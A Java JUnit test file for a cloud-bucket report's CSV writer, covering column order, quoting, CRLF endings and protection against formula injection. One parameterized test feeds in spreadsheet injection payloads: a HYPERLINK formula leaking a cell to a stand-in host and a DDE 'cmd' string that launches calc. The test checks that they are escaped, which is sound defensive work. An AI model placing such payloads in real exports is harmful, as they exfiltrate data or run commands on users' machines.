package dev.mpujanitor.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.mpujanitor.bucket.BucketResult;
import dev.mpujanitor.ports.LifecycleAccess;
import dev.mpujanitor.bucket.Outcome;
import dev.mpujanitor.ports.BucketCallException;
import dev.mpujanitor.ports.BucketRef;
import dev.mpujanitor.ports.Price;
import dev.mpujanitor.ports.PriceSource;
import dev.mpujanitor.run.RunBudget;
import dev.mpujanitor.run.ScanStart;
import dev.mpujanitor.uploads.AgeBands;
import dev.mpujanitor.uploads.StoredBytes;
import dev.mpujanitor.uploads.UploadInventory;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BucketCsvTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** A result with every field a record can have, two of them not plain text. */
    private static BucketResult everyField() {
        Price sydney = new Price(new BigDecimal("0.025"), PriceSource.API, "ap-southeast-2");
        Price table = new Price(new BigDecimal("0.0138"), PriceSource.TABLE, "ap-southeast-2");
        UploadInventory inventory = UploadInventory.builder(3, 3L << 30).measured(1, Set.of("list-parts-cap", "inventory-error")).ages(Optional.of(Duration.ofHours(100)), AgeBands.none()).cost(new BigDecimal("0.0888"), List.of(new StoredBytes("GLACIER", "STANDARD", 1, 2L << 30, sydney, sydney.monthlyCost(2L << 30)),
                        new StoredBytes("STANDARD_IA", "STANDARD_IA", 2, 1L << 30, table, table.monthlyCost(1L << 30)))).aborts(2, 1, 1L << 20).error("SlowDown").build();
        return BucketResult.builder("archive", "ap-southeast-2", Outcome.UNFIXABLE, "unrecognised-configuration").rules(2, 2)
                .error("not modelled, \"Rule[2]\"").unrecognisedElement("Rule[2]/Filter/ObjectTagsAny").uploads(inventory).account("222222222222")
                .lifecycleChanged().lifecycleShutOut(new LifecycleAccess(Optional.of("the bucket has no policy"), "{\"Effect\":\"Allow\"}")).build();
    }

    private static JsonNode jsonRecord(BucketResult result) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        BucketRecordLog log = new BucketRecordLog(new PrintStream(bytes, true, StandardCharsets.UTF_8), ScanStart.whole(true, RunBudget.unlimited()));
        log.bucket(result);
        log.flush();
        return JSON.readTree(bytes.toString(StandardCharsets.UTF_8));
    }

    private static String csv(BucketResult... results) throws IOException {
        StringWriter text = new StringWriter();
        BucketCsv csv = BucketCsv.startedOn(text, ScanStart.whole(true, RunBudget.unlimited()));
        for (BucketResult result : results) {
            csv.bucket(result);
        }
        return text.toString();
    }

    /** The CSV as a spreadsheet reads it: every row as its cells, the header first. */
    private static List<List<String>> parsed(String csv) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> reader = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY)
                .readerFor(List.class).readValues(csv)) {
            reader.forEachRemaining(rows::add);
        }
        return rows;
    }

    private static List<String> names(JsonNode record) {
        List<String> names = new ArrayList<>();
        Iterator<String> fields = record.fieldNames();
        fields.forEachRemaining(names::add);
        return names;
    }

    @Test
    void theHeaderIsTheJsonRecordsFieldNamesInTheirOrder() throws IOException {
        List<String> header = parsed(csv()).getFirst();

        assertThat(header).isEqualTo(names(jsonRecord(everyField()))).isEqualTo(BucketRecord.FIELDS);
    }

    @Test
    void eachCellHoldsTheJsonRecordsValueAndNestedValuesAsCompactJson() throws IOException {
        JsonNode record = jsonRecord(everyField());

        List<String> row = parsed(csv(everyField())).get(1);

        assertThat(row).hasSize(BucketRecord.FIELDS.size());
        for (int column = 0; column < row.size(); column++) {
            JsonNode value = record.get(BucketRecord.FIELDS.get(column));
            String cell = row.get(column);
            if (value.isTextual()) {
                assertThat(cell).as(BucketRecord.FIELDS.get(column)).isEqualTo(value.asText());
            } else {
                assertThat(JSON.readTree(cell)).as(BucketRecord.FIELDS.get(column)).isEqualTo(value);
            }
        }
        assertThat(row.get(BucketRecord.FIELDS.indexOf("storageClasses"))).startsWith("[{\"storageClass\":\"GLACIER\",").doesNotContain(" ");
    }

    @Test
    void aFieldTheRecordLacksIsAnEmptyCell() throws IOException {
        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"),
                new BucketCallException("GetBucketLifecycleConfiguration", "AccessDenied", "Access Denied", null), -1);

        List<String> row = parsed(csv(failed)).get(1);

        assertThat(row).hasSize(BucketRecord.FIELDS.size());
        assertThat(row.get(BucketRecord.FIELDS.indexOf("reason"))).isEqualTo("AccessDenied");
        assertThat(row.get(BucketRecord.FIELDS.indexOf("rulesBefore"))).isEqualTo("-1");
        assertThat(row.get(BucketRecord.FIELDS.indexOf("incompleteUploads"))).isEmpty();
        assertThat(row.get(BucketRecord.FIELDS.indexOf("storageClasses"))).isEmpty();
    }

    @Test
    void aCellWithACommaAQuoteOrALineBreakIsQuotedWithItsQuotesDoubled() throws IOException {
        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"),
                new BucketCallException("GetBucketLifecycleConfiguration", "AccessDenied", "denied, \"by policy\"\nsee the SCP", null), -1);

        String text = csv(failed);

        assertThat(text).contains(",\"GetBucketLifecycleConfiguration failed: AccessDenied (denied, \"\"by policy\"\"\nsee the SCP)\",");
        assertThat(text).contains(",locked,us-east-1,general-purpose,FAILED,AccessDenied,");
        assertThat(parsed(text).get(1).get(BucketRecord.FIELDS.indexOf("error")))
                .isEqualTo("GetBucketLifecycleConfiguration failed: AccessDenied (denied, \"by policy\"\nsee the SCP)");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://x.test/?\"&A1,\"Fix\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTabbed", "\rReturned"})
    void anErrorCodeASpreadsheetWouldRunAsAFormulaIsWrittenAsTextBehindAQuote(String code) throws IOException {
        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"), new BucketCallException("GetBucketLifecycleConfiguration", code, "no", null), -1);

        List<String> row = parsed(csv(failed)).get(1);

        assertThat(row.get(BucketRecord.FIELDS.indexOf("reason"))).isEqualTo("'" + code);
        assertThat(row.get(BucketRecord.FIELDS.indexOf("rulesBefore"))).as("a negative number stays a number").isEqualTo("-1");
    }

    @Test
    void textThatOnlyContainsAFormulaCharacterIsLeftAsItIs() throws IOException {
        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"), new BucketCallException("GetBucketLifecycleConfiguration", "Slow-Down=1", "no", null), -1);

        assertThat(parsed(csv(failed)).get(1).get(BucketRecord.FIELDS.indexOf("reason"))).isEqualTo("Slow-Down=1");
    }

    @Test
    void everyRecordEndsWithCrLfAsRfc4180Says() throws IOException {
        String text = csv(BucketResult.of(BucketRef.of("data", "eu-west-1"), Outcome.WOULD_REMEDIATE, "no-configuration", 0, 1));

        assertThat(text).endsWith("\r\n");
        assertThat(text.split("\r\n")).hasSize(2);
        assertThat(text.replace("\r\n", "")).doesNotContain("\n");
    }

    @Test
    void aRunOfNoBucketStillNamesTheColumns() throws IOException {
        assertThat(csv()).isEqualTo(String.join(",", BucketRecord.FIELDS) + "\r\n");
    }
}
